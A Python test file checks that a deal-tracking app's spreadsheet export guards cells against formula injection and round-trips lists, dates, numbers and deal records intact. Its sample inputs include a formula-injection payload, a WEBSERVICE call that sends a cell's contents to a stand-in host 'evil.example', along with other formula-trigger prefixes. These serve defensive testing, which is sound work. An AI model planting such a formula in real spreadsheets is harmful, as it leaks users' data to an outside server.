"""What goes into one spreadsheet cell comes out of it again, and no cell runs as a formula."""

from collections.abc import Mapping
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leverage.cells import (
    RECORD_COLUMNS,
    guard,
    join_items,
    read_cell,
    split_items,
    unguard,
    write_cell,
    write_record,
)
from leverage.deals import FIELDS, DealDraft, Tactic
from leverage.imports.values import read_tactics

AWKWARD = [
    "=1+1",
    '=WEBSERVICE("https://evil.example/"&B2)',
    "+49 30 1234",
    "-10% or nothing",
    "- opened low",
    "@mention",
    "\t=1",
    "\r=1",
    "  \n =SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠home",
    "'quoted'",
    "'=already guarded",
    "''+twice",
    "' -spaced",
    "'",
    "",
    "a=b",
    "50% up front, 50% later",
    "semi;colon",
    "\\",
    "\\;",
    "ends with \\",
    'she said "no"; twice',
    "line one\nline two",
    "None",
    "N/A",
    "NULL",
    "00420",
    "1E5",
    "\u00a0",
    "שלום עולם",
    "مرحبا",
    "👩‍💻 🇪🇺",
    "𝔐athematical",
]


@pytest.mark.parametrize(
    "text", ["=A1", "+1", "-1", "@x", "\tx", "\rx", "  =A1", "\u00a0=A1", "\n\n+1", "＝1", "＋1", "－1", "＠x", "'=A1", "''  -1"]
)
def test_a_text_that_a_spreadsheet_would_run_gets_one_apostrophe(text: str) -> None:
    """Formula signs in front are guarded: behind blanks, in full width, and behind apostrophes that are text."""
    assert guard(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Acme", "a = b", "'tis the season", "5-10%", "(=)", "it's @ home", "'"])
def test_other_text_is_left_alone(text: str) -> None:
    """Nothing is put in front of a text that no spreadsheet runs, nor taken from it."""
    assert guard(text) == text
    assert unguard(text) == text


@pytest.mark.parametrize("text", AWKWARD)
def test_unguard_undoes_guard(text: str) -> None:
    """Guarding and taking the guard off gives the very text, also where it looked guarded from the start."""
    assert unguard(guard(text)) == text
    assert unguard(guard(guard(text))) == guard(text)


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r \n＝a;\\")))
def test_unguard_undoes_guard_for_any_text(text: str) -> None:
    """No mix of apostrophes, blanks and signs is changed by a round trip, and none leaves a sign in front."""
    assert unguard(guard(text)) == text
    assert not guard(text).lstrip().startswith(tuple("=+-@＝"))
    assert not guard(text).startswith(("\t", "\r"))


@pytest.mark.parametrize(
    ("items", "cell"),
    [
        ([], ""),
        (["discount"], "discount"),
        (["discount", "term"], "discount; term"),
        (["a;b", "c"], r"a\;b; c"),
        (["back\\slash", "\\"], r"back\\slash; \\"),
        (["ends with \\", "next"], r"ends with \\; next"),
        (["\\;"], r"\\\;"),
    ],
)
def test_lists_are_joined_with_semicolons(items: list[str], cell: str) -> None:
    """A `;` or a backslash inside an item carries a backslash, and splitting gives the items back."""
    assert join_items(items) == cell
    assert split_items(cell) == items


@given(st.lists(st.text(alphabet=st.sampled_from(";\\ab,'=")).map(str.strip).filter(bool)))
def test_any_list_comes_back(items: list[str]) -> None:
    """Items of semicolons and backslashes come back as they were."""
    assert split_items(join_items(items)) == items


def test_a_foreign_list_splits_with_or_without_blanks() -> None:
    """Files of others join with `;` alone; a backslash before another sign is just a backslash."""
    assert split_items("a;b ;  c") == ["a", "b", "c"]
    assert split_items("a;;b;") == ["a", "", "b", ""]
    assert split_items(r"C:\temp; \\") == [r"C:\temp", "\\"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ((), ""),
        (True, "yes"),
        (False, "no"),
        (36, "36"),
        (0, "0"),
        (Decimal("-5"), "-5"),
        (Decimal("1E+3"), "1000"),
        (Decimal("0.000001"), "0.000001"),
        (date(2026, 3, 2), "2026-03-02"),
        ("=2+2", "'=2+2"),
        (("=a", "b"), "'=a; b"),
    ],
)
def test_a_value_is_written_plainly(value: object, cell: str) -> None:
    """Days are ISO, numbers plain and never guarded, flags yes or no."""
    assert write_cell(value) == cell


@pytest.mark.parametrize("text", [text for text in AWKWARD if text.strip()])
def test_awkward_text_survives_every_text_field(text: str) -> None:
    """A name, a note, a list and a tactic hold the same text after a round trip through their cells."""
    text = " ".join(text.split())
    deal = DealDraft(
        vendor=text,
        notes=f"{text}\n{text}",
        firm_on=[text, f"{text}; and more"],
        tactics=[Tactic(text, "worked"), Tactic(f"{text};")],
    )
    assert again(write_record(deal)) == deal


def again(cells: Mapping[str, str]) -> DealDraft:
    """Return the record that stands in these cells, each read by itself."""
    tactics = read_tactics(cells["tactics"], cells["tactic_results"], own=True)
    return DealDraft(**{name: read_cell(name, cells[name]) for name in FIELDS if name != "tactics"}, tactics=tactics)  # type: ignore[arg-type]


def test_every_field_has_a_cell_that_reads_back() -> None:
    """A record with all fields filled is the same after it was written and read."""
    filled = DealDraft(
        vendor="Acme", deal_date="2026-03-02", logged_by="Ida", logged_by_email="ida@corp.example", department="IT",
        outcome="renewed_as_is", product="Seats", kind="renewal", discount_pct="12.5", discount_base="last_price",
        payment_terms="Net 60", flexible_on=["discount"], firm_on=["liability"], tactics=[Tactic("waited", "mixed")],
        notes="one\ntwo", currency="EUR", list_price="10", quoted_price="9.99", final_price="8", unit="seat", quantity="120.5",
        annual_value="1000", total_value="3000", term_months=36, start_date="2026-04-01", end_date="2029-03-31",
        auto_renews=False, renewal_term_months=12, notice_days=0, billing_frequency="monthly", uplift_asked_pct="9",
        uplift_agreed_pct="-1", uplift_cap_pct="3", conceded=["a logo"], obtained=["training"], competitor="Other",
        contact="Sam", reseller="Via", contract_ref="0042", links=["https://a.example/?a=1;b=2"], next_meeting="2031-01-01",
        signals=["they are short of the quarter"], visible_to=["IT"],
    )  # fmt: skip
    assert set(filled.values()) == set(FIELDS), "a field is missing from this test"
    cells = write_record(filled)
    assert tuple(sorted(cells)) == tuple(sorted(RECORD_COLUMNS))
    assert cells["uplift_agreed_pct"] == "-1"
    assert again(cells) == filled


def test_a_blank_cell_says_nothing() -> None:
    """A cell of blanks is no value."""
    assert read_cell("vendor", "  ") is None
    assert read_cell("firm_on", "") is None
    assert read_cell("firm_on", "a; ; b") == ["a", "b"]
